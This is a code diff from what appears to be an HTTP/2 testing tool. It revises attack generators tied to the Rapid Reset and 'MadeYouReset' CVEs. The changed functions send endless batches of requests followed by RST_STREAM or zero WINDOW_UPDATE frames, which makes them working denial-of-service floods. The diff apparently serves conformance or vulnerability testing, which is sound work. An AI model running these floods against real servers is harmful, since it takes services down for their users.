@@ -80,15 +80,15 @@ def responses_reset() -> Frames:
 
 @attack(
     "reset-all",
-    "RST_STREAM on each of many open streams",
-    BOTH,
+    f"{MANY:,} requests, then as many resets, again and again",
     cve=RESET,
-    streams=MANY,
     own_settings=MANY_STREAMS,
 )
 def reset_all() -> Frames:
-    for stream_id in islice(wire.odd_numbers(), MANY):
-        yield wire.rst_stream(stream_id)
+    ids = wire.odd_numbers()
+    while batch := list(islice(ids, MANY)):
+        yield b"".join(wire.headers(stream_id, POST) for stream_id in batch)
+        yield b"".join(map(wire.rst_stream, batch))
 
 
 @attack("reset-refused", "REFUSED_STREAM on each of many open streams", ("client",), streams=MANY)
@@ -120,7 +120,7 @@ def requests_unanswered() -> Frames:
     yield from messages.ordinary_requests()
 
 
-@attack("identifier-gaps", "requests whose identifiers leave gaps", batch=50)
+@attack("identifier-gaps", "requests whose identifiers leave gaps")
 def identifier_gaps() -> Frames:
     for stream_id in count(1, 4):
         yield wire.headers(stream_id, GET, end=True)
@@ -136,14 +136,26 @@ def increment_zero() -> Frames:
 
 
 @attack(
-    "made-reset-increment-zero-open",
-    "WINDOW_UPDATE of 0 on open streams",
-    BOTH,
+    "made-reset-increment-zero-all",
+    f"{MANY:,} requests, then WINDOW_UPDATE of 0 on all, again and again",
     cve=MADE_RESET,
-    streams=MANY,
     own_settings=MANY_STREAMS,
 )
-def increment_zero_open() -> Frames:
+def increment_zero_all() -> Frames:
+    ids = wire.odd_numbers()
+    while batch := list(islice(ids, MANY)):
+        yield b"".join(wire.headers(stream_id, POST) for stream_id in batch)
+        yield b"".join(wire.window_update(stream_id, 0) for stream_id in batch)
+
+
+@attack(
+    "made-reset-requests",
+    "WINDOW_UPDATE of 0 on each of many requests",
+    ("client",),
+    cve=MADE_RESET,
+    streams=MANY,
+)
+def increment_zero_on_requests() -> Frames:
     for stream_id in islice(wire.odd_numbers(), MANY):
         yield wire.window_update(stream_id, 0)
 
